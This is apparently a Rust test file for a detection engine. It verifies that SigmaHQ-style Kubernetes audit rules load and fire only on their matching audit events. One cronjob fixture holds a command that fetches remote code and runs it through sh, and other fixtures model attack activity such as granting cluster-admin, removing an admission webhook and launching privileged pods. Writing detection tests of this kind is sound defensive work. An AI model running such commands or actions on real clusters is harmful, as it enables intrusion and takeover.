//! Rules in the shape of `SigmaHQ`'s Kubernetes audit rules load unmodified, and each fires on what it is about.

mod common;

use std::collections::BTreeSet;
use std::path::PathBuf;

use detections::diagnostic::{Severity, Source};
use detections::event::Origin;
use detections::sigma::ast::Rule;
use detections::sigma::{Placeholders, load};
use detections::truth::Truth;

/// By file: an event on which the rule fires, and one that misses by a little.
const EVENTS: [(&str, &str, &str); 12] = [
    (
        "admin_binding",
        r#"{"verb":"create","user":{"username":"bob","groups":["devs"]},"objectRef":{"resource":"rolebindings"},"requestObject":{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"}}}"#,
        r#"{"verb":"create","user":{"username":"bob","groups":["system:masters"]},"objectRef":{"resource":"rolebindings"},"requestObject":{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"}}}"#,
    ),
    (
        "admission_check_removed",
        r#"{"verb":"delete","objectRef":{"apiGroup":"admissionregistration.k8s.io","resource":"validatingwebhookconfigurations"},"responseStatus":{"code":200}}"#,
        r#"{"verb":"delete","objectRef":{"apiGroup":"admissionregistration.k8s.io","resource":"validatingwebhookconfigurations"},"responseStatus":{"code":403}}"#,
    ),
    (
        "anonymous_answer",
        r#"{"verb":"get","user":{"username":"system:anonymous","groups":["system:unauthenticated"]},"requestURI":"/api/v1/secrets","responseStatus":{"code":200}}"#,
        r#"{"verb":"get","user":{"username":"system:anonymous","groups":["system:unauthenticated"]},"requestURI":"/healthz?verbose","responseStatus":{"code":200}}"#,
    ),
    (
        "cron_download",
        r#"{"verb":"create","objectRef":{"apiGroup":"batch","resource":"cronjobs"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a"},{"args":["-c","curl -s http://192.0.2.1/x | sh"]}]}}}}}}}"#,
        r#"{"verb":"create","objectRef":{"apiGroup":"batch","resource":"cronjobs"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"args":["-c","curl -s http://192.0.2.1/x"]}]}}}}}}}"#,
    ),
    (
        "dangerous_role",
        r#"{"verb":"patch","user":{"username":"bob"},"objectRef":{"resource":"clusterroles"},"requestObject":{"rules":[{"resources":["pods"],"verbs":["get"]},{"resources":["serviceaccounts/token"],"verbs":["impersonate"]}]}}"#,
        r#"{"verb":"patch","user":{"username":"system:serviceaccount:kube-system:clusterrole-aggregation-controller"},"objectRef":{"resource":"clusterroles"},"requestObject":{"rules":[{"resources":["clusterroles"],"verbs":["bind"]}]}}"#,
    ),
    (
        "events_removed",
        r#"{"verb":"deletecollection","user":{"username":"bob"},"objectRef":{"resource":"events"}}"#,
        r#"{"verb":"deletecollection","user":{"username":"system:serviceaccount:kube-system:namespace-controller"},"objectRef":{"resource":"events"}}"#,
    ),
    (
        "host_directory",
        r#"{"verb":"create","objectRef":{"resource":"pods"},"requestObject":{"spec":{"volumes":[{"emptyDir":{}},{"hostPath":{"path":"/etc/kubernetes"}}]}}}"#,
        r#"{"verb":"create","objectRef":{"resource":"pods"},"requestObject":{"spec":{"volumes":[{"hostPath":{"path":"/data/etc"}}]}}}"#,
    ),
    (
        "privileged_container",
        r#"{"verb":"create","objectRef":{"resource":"pods"},"requestObject":{"spec":{"containers":[{"name":"a"},{"securityContext":{"privileged":true}}]}}}"#,
        r#"{"verb":"create","objectRef":{"resource":"pods"},"requestObject":{"spec":{"containers":[{"securityContext":{"privileged":false}}]}}}"#,
    ),
    (
        "scanner_client",
        r#"{"verb":"create","userAgent":"curl/8.5.0","objectRef":{"resource":"selfsubjectrulesreviews"}}"#,
        r#"{"verb":"create","userAgent":"kubectl/v1.34.4","objectRef":{"resource":"selfsubjectrulesreviews"}}"#,
    ),
    (
        "secrets_listed",
        r#"{"verb":"list","user":{"username":"system:serviceaccount:web:frontend"},"objectRef":{"resource":"secrets"}}"#,
        r#"{"verb":"list","user":{"username":"system:serviceaccount:kube-system:generic-garbage-collector"},"objectRef":{"resource":"secrets"}}"#,
    ),
    (
        "shell_in_pod",
        r#"{"verb":"get","objectRef":{"resource":"pods","subresource":"exec"}}"#,
        r#"{"verb":"get","objectRef":{"resource":"pods","subresource":"log"}}"#,
    ),
    (
        "workload_denied",
        r#"{"verb":"list","user":{"username":"system:serviceaccount:web:frontend"},"objectRef":{"resource":"nodes"},"responseStatus":{"code":403}}"#,
        r#"{"verb":"list","user":{"username":"bob"},"objectRef":{"resource":"nodes"},"responseStatus":{"code":403}}"#,
    ),
];

fn folder() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sigmahq_shape")
}

fn file(name: &str) -> String {
    format!("kubernetes_audit_{name}.yml")
}

/// Loads a fixture as it is: nothing but tags that ATT&CK has renamed since may be noted.
#[track_caller]
fn rule(name: &str) -> Rule {
    let file = file(name);
    let text = std::fs::read_to_string(folder().join(&file)).unwrap();
    let mut loaded = load(&[Source::new(&file, &text)], &Placeholders::new());
    for fault in &loaded.diagnostics {
        let known = ["renamed_tactic", "revoked_technique"].contains(&fault.code);
        assert!(
            known && fault.severity == Severity::Warning,
            "{}",
            fault.render(false)
        );
    }
    loaded.rules.pop().unwrap()
}

#[test]
fn every_rule_loads_and_fires_on_its_event_only() {
    for (name, fires, misses) in EVENTS {
        let verdict = |event| {
            common::judge(
                vec![rule(name)],
                &common::complete(event),
                &Origin::default(),
            )
        };
        assert_eq!(verdict(fires), Truth::True, "{name}");
        assert_eq!(verdict(misses), Truth::False, "{name}");
    }
}

#[test]
fn every_file_has_its_event() {
    let files: BTreeSet<String> = std::fs::read_dir(folder())
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(files, EVENTS.iter().map(|(name, ..)| file(name)).collect());
}

#[test]
fn together_they_are_one_rule_set() {
    let texts: Vec<String> = EVENTS
        .iter()
        .map(|(name, ..)| std::fs::read_to_string(folder().join(file(name))).unwrap())
        .collect();
    assert_eq!(common::load_all(&texts).len(), EVENTS.len());
}
